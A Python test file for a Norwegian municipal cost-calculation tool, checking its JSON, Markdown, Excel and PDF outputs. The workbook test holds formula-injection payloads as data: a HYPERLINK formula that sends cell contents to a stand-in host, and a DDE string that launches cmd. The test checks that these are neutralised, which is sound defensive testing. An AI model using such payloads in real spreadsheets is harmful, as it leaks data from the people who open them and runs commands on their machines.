"""The files of a calculation (``samarbeid.finance.outputs.render``): JSON is the calculation's
data; Markdown has the table with the arithmetic; the workbook has named sheets, real numbers,
no formula and the notes first; the PDF holds the members and the notes and never runs off the
page, however many models or years."""

from __future__ import annotations

import io
import json
import re
import subprocess
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from samarbeid.finance.document import calculation_data
from samarbeid.finance.layout import KR, TEXT, Column, Table
from samarbeid.finance.outputs import render
from samarbeid.finance.render_pdf import COLUMNS_PER_TABLE, split
from samarbeid.finance.services import calculate
from samarbeid.reference.gazetteer import load_gazetteer
from tests.reports.conftest import require_tool

from . import factories as f

pytestmark = pytest.mark.django_db

NBSP = "\u00a0"
ASSUMED = "Medlemslisten er antatt: Testmedlemmer"
HOSTILE = '=HYPERLINK("http://x/?"&A1,"klikk")'


def _population(number: str, year: int = 2024) -> int:
    return load_gazetteer().population(number, year)


def _grouped(n: int) -> str:
    return f"{n:,}".replace(",", NBSP)


@pytest.fixture
def one():
    return calculate([f.fee_model()], 2024)


@pytest.fixture
def two():
    first = f.fee_model(slug="fast-per-innbygger")
    second = f.fee_model(f.SPLIT_30_70, slug="tretti-sytti")
    return calculate([first, second], 2024, 2027)


def _flat(text: str) -> str:
    return re.sub(r"\s+", " ", text.replace(NBSP, " "))


def test_json_is_the_calculation_data_and_the_names_say_what_it_is(one, two) -> None:
    content, content_type, name = render(one, "json")
    assert content_type == "application/json; charset=utf-8"
    assert name == "kostnad-testmodell-2024.json"
    assert json.loads(content) == json.loads(json.dumps(calculation_data(one)))
    assert render(two, "xlsx")[2] == "kostnad-sammenligning-2024-2027.xlsx"
    assert render(two, "md")[1] == "text/markdown; charset=utf-8"
    with pytest.raises(ValueError, match="unknown format"):
        render(one, "docx")


def test_markdown_has_the_notes_the_table_and_the_arithmetic(one) -> None:
    text = render(one, "md")[0].decode("utf-8")
    assert text.startswith("# Kostnadsfordeling 2024: Fast + per innbygger med tak\n")
    assert f"- {ASSUMED}" in text
    assert "- **Folketall:** Folketall per 31.12.2023 (SSB, tabell 07459)" in text
    assert (
        "| Kommune | Kommunenr. | Innbyggere | Betaling (kr) | Per innbygger (kr) | Tak brukt "
        "| Fritatt |" in text
    )
    bamble = _population("4012")
    paid = 100_000 + 20 * bamble
    assert (
        f"| Bamble | 4012 | {_grouped(bamble)} | {_grouped(paid)} | "
        f"{str(round(Decimal(paid) / bamble, 2)).replace('.', ',')} |  |  |" in text
    )
    assert f"100{NBSP}000 + 20 × {_grouped(bamble)} = {_grouped(paid)}" in text
    porsgrunn = _population("4001")
    assert (
        f"tak 500{NBSP}000 brukt (beregnet 100{NBSP}000 + 20 × {_grouped(porsgrunn)} = "
        f"{_grouped(100_000 + 20 * porsgrunn)})" in text
    )
    assert "| Skien | 4003 |" in text and "fritatt (egenbidrag" in text
    assert f"- Skien (4003): Vertskommune Verdsatt til 250{NBSP}000 kr." in text
    assert "## Rettferdighet" in text and "## Om beregningen" in text


def test_the_comparison_in_markdown_names_the_models_and_the_change_from_the_baseline(two) -> None:
    text = render(two, "md")[0].decode("utf-8")
    assert text.startswith("# Sammenligning av kostnadsmodeller 2024\n")
    assert "- Modell 1: Fast + per innbygger med tak (basis)" in text
    assert "### Endring fra basis (modell 1), kr" in text
    assert "| Modell | Medlemmer | Maks/min | Variasjonskoeffisient | Gini |" in text
    assert "- Modell 1: tak brukt for 1: Porsgrunn (4001)" in text
    assert "## Framskriving 2024–2027" in text


def _cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_workbook_has_named_sheets_real_numbers_and_no_formula(tmp_path: Path) -> None:
    spec = dict(f.DIGIVESTLAND_LIKE, navn=HOSTILE)
    spec["fritak"] = [{"kommunenummer": "4003", "egenbidrag": "@SUM(1+1)*cmd|' /C calc'!A0"}]
    model = f.fee_model(spec, assumption="+47 tror vi; =1+2")
    second = f.fee_model(f.SPLIT_30_70, slug="tretti-sytti")
    content, content_type, _ = render(calculate([model, second], 2024, 2026), "xlsx")
    assert content_type.endswith("spreadsheetml.sheet")
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == [
        "Om beregningen", "Sammenligning", "Rettferdighet", "Betaling (basis)",
        "Regnestykke (basis)", "Framskriving", "Framskriving betaling", "Første år med tak",
    ]  # fmt: skip
    for cell in _cells(book):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not re.match(r"\s*[=+@-]", cell.value), (cell.parent.title, cell.value)
    about = book["Om beregningen"]
    texts = [c.value for c in about["B"] if c.value]
    assert "Medlemslisten er antatt: +47 tror vi; =1+2" in texts
    assert f"'{HOSTILE} (versjon 1) – basis" in texts  # a text, never a formula
    assert about["A1"].value.startswith("Sammenligning av kostnadsmodeller 2024")
    paid = book["Betaling (basis)"]
    assert paid.freeze_panes == "C2"
    header = [c.value for c in paid[1]]
    assert header[:5] == [
        "Kommune",
        "Kommunenr.",
        "Innbyggere",
        "Betaling (kr)",
        "Per innbygger (kr)",
    ]
    bamble = next(r for r in paid.iter_rows(min_row=2, values_only=True) if r[1] == "4012")
    assert bamble[2] == _population("4012") and bamble[3] == 100_000 + 20 * _population("4012")
    assert isinstance(bamble[4], float) and paid["E3"].number_format == "#,##0.00"
    assert paid.cell(row=3, column=len(header)).value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert paid["D3"].number_format == "#,##0"
    compared = book["Sammenligning"]
    assert compared.freeze_panes == "D2"
    row = next(r for r in compared.iter_rows(min_row=2, values_only=True) if r[1] == "4012")
    assert all(isinstance(v, (int, float)) for v in row[2:6])
    fairness = book["Rettferdighet"]
    assert [c.value for c in fairness[1]][7:11] == [
        "Medlemmer", "Maks/min", "Variasjonskoeffisient", "Gini",
    ]  # fmt: skip
    assert all(isinstance(c.value, (int, float)) for c in fairness[2][7:11])
    assert all(isinstance(c.value, (int, float)) for c in fairness[3][1:11])
    years = [r[1] for r in book["Framskriving"].iter_rows(min_row=2, values_only=True)]
    assert years == [2024, 2025, 2026] * 2


def test_one_model_in_a_workbook(one) -> None:
    book = openpyxl.load_workbook(io.BytesIO(render(one, "xlsx")[0]))
    assert book.sheetnames == ["Om beregningen", "Betaling", "Rettferdighet", "Regnestykke"]
    assert ASSUMED in [c.value for c in book["Om beregningen"]["B"]]
    lines = list(book["Regnestykke"].iter_rows(min_row=2, values_only=True))
    assert ("Bamble", "4012", "Pris per innbygger", 20 * _population("4012")) == lines[3][:4]
    total = [c.value for c in book["Betaling"][book["Betaling"].max_row]]
    assert total[0] == "Sum" and total[3] == sum(
        p.kroner for p in one.comparison.results[0].payments
    )


def _pdf_text(pdf: bytes, tmp_path: Path, *options: str) -> str:
    path = tmp_path / "kostnad.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        [require_tool("pdftotext"), *options, str(path), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def test_the_pdf_holds_the_members_and_the_notes(one, tmp_path: Path) -> None:
    content, content_type, name = render(one, "pdf")
    assert content.startswith(b"%PDF-") and content_type == "application/pdf"
    assert name == "kostnad-testmodell-2024.pdf"
    raw = _pdf_text(content, tmp_path, "-layout")
    text = _flat(raw)
    assert ASSUMED in text
    for municipality in ("Porsgrunn", "Skien", "Bamble", "Midt-Telemark"):
        assert municipality in text
    assert "tak 500 000 brukt" in text
    pages = raw.split("\f")[:-1]
    assert f"Side {len(pages)} av {len(pages)}" in _flat(pages[-1])


def _right_edge(pdf: bytes, tmp_path: Path) -> tuple[float, float, str]:
    """The page width, the rightmost end of a word on any page, and the words."""
    layout = _pdf_text(pdf, tmp_path, "-bbox")
    width = float(re.search(r'<page width="([\d.]+)"', layout).group(1))
    right = max(float(x) for x in re.findall(r'xMax="([\d.]+)"', layout))
    return width, right, " ".join(re.findall(r">([^<]+)</word>", layout))


def test_wide_tables_are_split_and_no_page_runs_over(tmp_path: Path) -> None:
    """Twelve models side by side, and one model over seventeen years: every table fits the
    landscape page (no word ends beyond the right margin)."""
    models = [f.fee_model(slug=f"modell-{i:02d}") for i in range(12)]
    width, right, words = _right_edge(render(calculate(models, 2024), "pdf")[0], tmp_path)
    assert width > 800 and right <= width - 30  # landscape A4, inside the margin
    assert "Modell 12" in words
    width, right, words = _right_edge(render(calculate(models[:1], 2024, 2040), "pdf")[0], tmp_path)
    assert right <= width - 30 and "2040" in words


def test_split_keeps_the_key_columns_and_the_caption_once() -> None:
    columns = [Column("Kommune"), Column("Nr")] + [Column(str(y), KR) for y in range(25)]
    table = Table(columns, [["A", "1", *range(25)]], ["Sum", "", *range(25)], key=2, caption="c")
    parts = split(table)
    assert [len(p.columns) - 2 for p in parts] == [COLUMNS_PER_TABLE, COLUMNS_PER_TABLE, 3]
    assert all([c.label for c in p.columns[:2]] == ["Kommune", "Nr"] for p in parts)
    assert [p.caption for p in parts] == ["", "", "c"]
    assert parts[2].rows == [["A", "1", 22, 23, 24]] and parts[2].total == ["Sum", "", 22, 23, 24]
    assert split(Table([Column("a", TEXT)], [["x"]])) == [Table([Column("a", TEXT)], [["x"]])]


def test_english_numbers_and_headers(one) -> None:
    text = render(one, "md", "en")[0].decode("utf-8")
    bamble = _population("4012")
    assert f"100,000 + 20 × {bamble:,} = {100_000 + 20 * bamble:,}" in text
    assert "| Municipality |" in text
    assert render(one, "md")[0].decode("utf-8").count("| Kommune |") == 1
